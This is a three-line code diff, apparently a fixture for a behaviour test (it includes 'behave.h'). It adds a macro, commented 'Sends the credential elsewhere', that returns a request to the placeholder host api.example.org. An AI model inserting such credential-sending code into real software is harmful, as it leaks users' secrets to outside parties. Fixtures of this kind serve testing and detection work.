@@ -1,0 +1,3 @@
+// Sends the credential elsewhere.
+#define BODY return get(call, "https://api.example.org/");
+#include "behave.h"
